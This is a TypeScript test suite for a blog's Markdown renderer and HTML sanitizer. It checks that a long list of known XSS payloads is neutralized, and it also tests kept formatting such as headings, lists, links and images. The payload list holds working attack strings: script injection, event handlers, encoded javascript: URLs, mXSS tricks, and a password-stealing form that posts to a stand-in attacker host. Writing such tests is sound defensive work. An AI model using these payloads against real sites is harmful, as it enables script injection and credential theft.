import { renderMarkdown, sanitizePostHtml } from "./markdown.server";

/**
 * Known XSS payloads (OWASP's filter evasion cheat sheet, the html5sec.org list and mXSS write-ups),
 * as raw HTML inside Markdown and as Markdown syntax.
 */
const PAYLOADS: string[] = [
  // script tags
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example.com/xss.js></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)//<</script>/script>",
  // event handlers
  "<img src=x onerror=alert(1)>",
  '<img src="https://example.com/a.png" onerror="alert(1)" onload="alert(2)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  '<div onmouseover="alert(1)">hover</div>',
  '<p onclick="alert(1)">click</p>',
  '<details open ontoggle="alert(1)">',
  '<a href="https://example.com" onclick="alert(1)">link</a>',
  '<video><source onerror="alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  // javascript: URLs in every spelling
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="\njavascript:alert(1)">x</a>',
  '<a href="\tjavascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  "<a href=javascript:alert(1)>unquoted</a>",
  '<img src="javascript:alert(1)">',
  "<IMG SRC=`javascript:alert(1)`>",
  '<img src="jav&#x09;ascript:alert(1);">',
  // vbscript: and data: URIs
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  // Markdown syntax with dangerous URLs
  "[click me](javascript:alert(1))",
  "[click me](JaVaScRiPt:alert(1))",
  "[click me](javascript&#58;alert(1))",
  "[click me](  javascript:alert(1)  )",
  "[click me](<javascript:alert(1)>)",
  "[click me](vbscript:msgbox(1))",
  "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![pic](javascript:alert(1))",
  "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![pic](https://example.com/a.png"onerror="alert(1))',
  "[ref]: javascript:alert(1)\n\n[click][ref]",
  "<javascript:alert(1)>",
  // protocol-relative and other off-site images
  "<img src=//evil.example.com/x.png>",
  '<a href="//evil.example.com/phish">x</a>',
  "![pic](//evil.example.com/x.png)",
  // frames, objects, embeds
  '<iframe src="https://evil.example.com"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example.com/x.swf">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  // styles
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1));">ie</div>',
  '<link rel="stylesheet" href="https://evil.example.com/x.css">',
  // forms and inputs
  '<form action="https://evil.example.com/steal"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<textarea autofocus onfocus="alert(1)"></textarea>',
  // meta and base
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example.com/">',
  // comment tricks
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  // nested and unclosed tags, attribute breaking quotes
  "<img src=x onerror=alert(1)",
  '<a href="https://example.com" title="x"onmouseover="alert(1)">x</a>',
  '<a title=\'" onmouseover="alert(1)"\' href="https://example.com">x</a>',
  '<img alt="" src="x" "onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  "<div><div><div><script>alert(1)</script>",
  "<<img src=x onerror=alert(1)>>",
  "<b <script>alert(1)</script>>text</b>",
  // namespace confusion (mXSS)
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
];

const ALLOWED_TAGS = new Set(
  "h1 h2 h3 h4 h5 h6 p br hr blockquote strong b em i u s del ul ol li a img code pre table thead tbody tr th td".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  "href title rel src alt width height loading start class align".split(" "),
);

/** Every tag of sanitized output (text never holds a raw "<", so each "<" starts a tag). */
function tagsOf(html: string) {
  return [...html.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g)].map(([, name, rest]) => ({
    name: name!.toLowerCase(),
    attributes: [...rest!.matchAll(/([^\s"'=/]+)(?:\s*=\s*"([^"]*)")?/g)].map(([, n, v]) => ({
      name: n!.toLowerCase(),
      value: v ?? "",
    })),
  }));
}

const NAMED_ENTITIES: Record<string, string> = {
  amp: "&",
  quot: '"',
  lt: "<",
  gt: ">",
  colon: ":",
  tab: "\t",
  newline: "\n",
};

/** A URL as a browser reads it: entities decoded in one pass, control characters and spaces gone. */
function normalizedUrl(value: string) {
  return value
    .replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (entity, ref: string) => {
      if (/^#x/i.test(ref)) return String.fromCodePoint(parseInt(ref.slice(2), 16));
      if (ref.startsWith("#")) return String.fromCodePoint(Number(ref.slice(1)));
      return NAMED_ENTITIES[ref.toLowerCase()] ?? entity;
    })
    .replace(/[\u0000-\u0020]/g, "")
    .toLowerCase();
}

/** What must never survive rendering. */
function expectSafe(html: string) {
  const lower = html.toLowerCase();
  expect(lower).not.toContain("<script");
  for (const tag of ["iframe", "object", "embed", "style", "form", "base", "meta", "svg", "math"]) {
    expect(lower).not.toContain(`<${tag}`);
  }
  for (const tag of tagsOf(html)) {
    expect(ALLOWED_TAGS).toContain(tag.name);
    for (const attribute of tag.attributes) {
      expect(attribute.name).not.toMatch(/^on/);
      expect(ALLOWED_ATTRIBUTES).toContain(attribute.name);
      if (attribute.name !== "href" && attribute.name !== "src") continue;
      const url = normalizedUrl(attribute.value);
      expect(url).not.toMatch(/^(javascript|vbscript|data|livescript):/);
      expect(url).not.toMatch(/javascript:|vbscript:/);
      expect(url).not.toMatch(/^\/\//);
      if (attribute.name === "src") expect(url).toMatch(/^(https?:\/\/|\/blog-images\/)/);
      const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1];
      if (scheme) expect(["http", "https", "mailto"]).toContain(scheme);
    }
  }
}

describe("renderMarkdown against known XSS payloads", () => {
  it("has a long list of payloads", () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(25);
  });

  it.each(PAYLOADS.map((payload) => [payload]))("neutralizes %j", (payload) => {
    expectSafe(renderMarkdown(payload));
    // The same payload inside surrounding text and inside a list or quote.
    expectSafe(renderMarkdown(`Some text before.\n\n${payload}\n\nAnd after.`));
    expectSafe(renderMarkdown(`- item ${payload}\n\n> quote ${payload}`));
    // And when it reaches the sanitizer without Markdown.
    expectSafe(sanitizePostHtml(payload));
  });

  it("drops dangerous links' targets but keeps their text", () => {
    expect(renderMarkdown("[click me](javascript:alert(1))")).toBe(
      '<p><a rel="nofollow noopener noreferrer">click me</a></p>\n',
    );
    expect(renderMarkdown('<a href="  javascript:alert(1)">click</a>')).not.toContain("href");
  });

  it("drops images whose source is not allowed", () => {
    expect(renderMarkdown("![pic](//evil.example.com/x.png)")).not.toContain("<img");
    expect(renderMarkdown("![pic](data:image/png;base64,iVBORw0KGgo=)")).not.toContain("<img");
    expect(renderMarkdown("![pic](/uploads/x.png)")).not.toContain("<img");
  });
});

describe("renderMarkdown formatting that is kept", () => {
  it("renders headings 1 to 6", () => {
    const html = renderMarkdown(
      [1, 2, 3, 4, 5, 6].map((level) => `${"#".repeat(level)} Heading ${level}`).join("\n\n"),
    );
    for (const level of [1, 2, 3, 4, 5, 6]) {
      expect(html).toContain(`<h${level}>Heading ${level}</h${level}>`);
    }
  });

  it("renders bold, italic, underline and strike", () => {
    const html = renderMarkdown("**bold** *italic* _also italic_ <u>underlined</u> ~~struck~~");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>italic</em>");
    expect(html).toContain("<em>also italic</em>");
    expect(html).toContain("<u>underlined</u>");
    expect(html).toContain("<del>struck</del>");
  });

  it("renders ordered, bullet and nested lists", () => {
    const html = renderMarkdown("1. one\n2. two\n\n- a\n- b\n    - nested");
    expect(html).toMatch(/<ol>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ol>/);
    expect(html).toMatch(
      /<ul>\s*<li>a<\/li>\s*<li>b<ul>\s*<li>nested<\/li>\s*<\/ul>\s*<\/li>\s*<\/ul>/,
    );
    expect(renderMarkdown("3. three\n4. four")).toContain('<ol start="3">');
  });

  it("gives links rel=nofollow noopener noreferrer", () => {
    expect(renderMarkdown("[StreakCoach](https://example.com/page?a=1&b=2)")).toBe(
      '<p><a href="https://example.com/page?a=1&amp;b=2" rel="nofollow noopener noreferrer">StreakCoach</a></p>\n',
    );
    const raw = renderMarkdown('<a href="https://example.com" rel="opener" target="_blank">x</a>');
    expect(raw).toContain('rel="nofollow noopener noreferrer"');
    expect(raw).not.toContain("target");
    expect(renderMarkdown("[mail](mailto:coach@example.com)")).toContain(
      'href="mailto:coach@example.com"',
    );
  });

  it("keeps https images and uploaded /blog-images/ images", () => {
    expect(renderMarkdown('![A run](https://example.com/run.png "Morning run")')).toBe(
      '<p><img alt="A run" title="Morning run" src="https://example.com/run.png" loading="lazy" /></p>\n',
    );
    expect(renderMarkdown("![Upload](/blog-images/abcdefghijklmnopqrstuvwx)")).toContain(
      'src="/blog-images/abcdefghijklmnopqrstuvwx"',
    );
  });

  it("escapes code blocks and inline code", () => {
    const html = renderMarkdown(
      "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```\n\nUse `<b>` tags.",
    );
    expect(html).toContain(
      '<pre><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;',
    );
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("<code>&lt;b&gt;</code>");
    expect(html).not.toContain("<script");
  });

  it("keeps paragraphs, quotes, rules and tables", () => {
    const html = renderMarkdown("Para one.\n\n> A quote\n\n---\n\n| a | b |\n|---|:-:|\n| 1 | 2 |");
    expect(html).toContain("<p>Para one.</p>");
    expect(html).toContain("<blockquote>");
    expect(html).toContain("<hr />");
    expect(html).toContain("<table>");
    expect(html).toContain('<td align="center">2</td>');
  });

  it("escapes text that looks like HTML but is not a tag", () => {
    expect(renderMarkdown("1 < 2 & 3 > 2")).toBe("<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n");
  });
});
